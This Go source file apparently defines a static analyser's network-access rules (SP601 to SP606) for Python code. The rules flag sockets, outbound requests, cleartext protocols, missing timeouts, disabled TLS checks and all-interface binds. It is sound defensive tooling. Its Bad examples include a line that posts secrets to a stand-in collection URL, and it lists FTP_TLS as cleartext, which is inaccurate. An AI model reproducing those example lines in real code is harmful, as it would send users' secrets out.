package analysis

import "github.com/stelp-dev/stelp/policy"

// SP6xx: network access.

var ruleSocket = &Rule{
	ID: "SP601", Name: "socket-use", CWE: 918, Category: CatNetwork, Severity: policy.SeverityError,
	Summary: "A network socket is created",
	Why:     "Sockets let code exfiltrate data or reach internal services; computing an answer needs no network.",
	Bad:     "s = socket.socket(); s.connect(('10.0.0.1', 22))",
	Good:    "take the data as an argument",
	calls: []string{"socket.socket", "socket.create_connection", "socket.create_server", "socket.socketpair",
		"socket.fromfd", "socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyaddr", "socket.getfqdn",
		"socketserver.TCPServer", "socketserver.UDPServer", "asyncio.open_connection", "asyncio.start_server"},
	callMsg: func(q string) string { return "`" + q + "` opens or resolves network connections" },
}

var httpCalls = []string{"urllib.request.urlopen", "urllib.request.Request", "urllib.request.urlretrieve",
	"urllib.request.build_opener", "urllib.urlopen", "urllib.urlretrieve", "urllib2.urlopen", "urllib3.PoolManager",
	"urllib3.request", "requests.get", "requests.post", "requests.put", "requests.delete", "requests.head",
	"requests.patch", "requests.options", "requests.request", "requests.Session", "httpx.get", "httpx.post",
	"httpx.put", "httpx.delete", "httpx.request", "httpx.Client", "httpx.AsyncClient", "http.client.HTTPConnection",
	"http.client.HTTPSConnection", "aiohttp.ClientSession", "xmlrpc.client.ServerProxy", "smtplib.SMTP",
	"smtplib.SMTP_SSL", "poplib.POP3", "imaplib.IMAP4", "imaplib.IMAP4_SSL", "nntplib.NNTP", "webbrowser.open",
	"webbrowser.open_new", "http.server.HTTPServer"}

var ruleHTTP = &Rule{
	ID: "SP602", Name: "network-request", CWE: 918, Category: CatNetwork, Severity: policy.SeverityError, Bandit: "B310",
	Summary: "An HTTP, mail or RPC request is made",
	Why:     "Outbound requests can exfiltrate data, reach internal services (SSRF) or fetch code to run.",
	Bad:     "requests.post('https://example.com/collect', data=secrets)",
	Good:    "return the data; let the caller decide what to send",
	calls:   httpCalls,
	callMsg: func(q string) string { return "`" + q + "` makes a network request" },
}

var ruleCleartext = &Rule{
	ID: "SP603", Name: "cleartext-protocol", CWE: 319, Category: CatNetwork, Severity: policy.SeverityError, Bandit: "B321",
	Summary: "FTP or Telnet is used",
	Why:     "FTP and Telnet send credentials and data unencrypted.",
	Bad:     "ftplib.FTP('host').login('user', 'pw')",
	Good:    "use an encrypted protocol (SFTP, SSH)",
	calls:   []string{"ftplib.FTP", "ftplib.FTP_TLS", "telnetlib.Telnet"},
	callMsg: func(q string) string { return "`" + q + "` uses a cleartext protocol" },
}

var ruleNoTimeout = &Rule{
	ID: "SP604", Name: "request-without-timeout", CWE: 400, Category: CatNetwork, Severity: policy.SeverityWarning, Bandit: "B113",
	Summary: "An HTTP request has no timeout",
	Why:     "Without a timeout a request to an unresponsive host hangs forever.",
	Bad:     "requests.get(url)",
	Good:    "requests.get(url, timeout=10)",
	HasFix:  true,
	calls: []string{"requests.get", "requests.post", "requests.put", "requests.delete", "requests.head",
		"requests.patch", "requests.options", "requests.request", "httpx.get", "httpx.post", "httpx.put",
		"httpx.delete", "httpx.request", "urllib.request.urlopen"},
	callCheck: func(p *pass, call int32, q string) (string, bool) {
		_, kw := p.callArgs(call)
		if _, ok := kw["timeout"]; ok {
			return "", false
		}
		return "`" + q + "` without timeout= can hang forever", true
	},
}

var ruleNoVerify = &Rule{
	ID: "SP605", Name: "tls-verification-disabled", CWE: 295, Category: CatNetwork, Severity: policy.SeverityError, Bandit: "B501",
	HasFix:  true,
	Summary: "TLS certificate verification is turned off",
	Why:     "verify=False or an unverified SSL context accepts any certificate, so anyone on the path can read and change the traffic.",
	Bad:     "requests.get(url, verify=False)",
	Good:    "requests.get(url, timeout=10)",
	calls:   []string{"ssl._create_unverified_context", "ssl._create_stdlib_context"},
	refs:    []string{"ssl.CERT_NONE"},
	hooks: map[string]func(*pass, *Rule, int32){
		"keyword_argument": func(p *pass, r *Rule, n int32) {
			name := normIdent(p.text(p.field(n, "name")))
			if name != "verify" && name != "check_hostname" && name != "verify_ssl" {
				return
			}
			v := p.res.eval(p.field(n, "value"))
			if (v.k == vBool || v.k == vNum) && v.n == 0 {
				p.report(r, n, "`"+name+"=False` turns off TLS certificate checks")
			}
		},
	},
}

var ruleBindAll = &Rule{
	ID: "SP606", Name: "bind-all-interfaces", CWE: 605, Category: CatNetwork, Severity: policy.SeverityWarning, Bandit: "B104",
	Summary: "A server binds to every network interface",
	Why:     "Binding 0.0.0.0 (or '') exposes the service to the whole network instead of localhost.",
	Bad:     "s.bind(('0.0.0.0', 8080))",
	Good:    "s.bind(('127.0.0.1', 8080))",
	hooks: map[string]func(*pass, *Rule, int32){
		"call": func(p *pass, r *Rule, n int32) {
			fn := p.unparen(p.field(n, "function"))
			if p.kind(fn) != "attribute" || normIdent(p.text(p.field(fn, "attribute"))) != "bind" {
				return
			}
			v := p.res.eval(p.arg(n, 0, ""))
			if v.k == vSeq && len(v.elems) >= 1 {
				if h, ok := v.elems[0].str(); ok && (h == "0.0.0.0" || h == "" || h == "::") {
					p.report(r, n, "bind to `"+h+"` listens on every interface")
				}
			}
		},
	},
}

func networkFamily() family {
	return family{rules: []*Rule{ruleSocket, ruleHTTP, ruleCleartext, ruleNoTimeout, ruleNoVerify, ruleBindAll}}
}
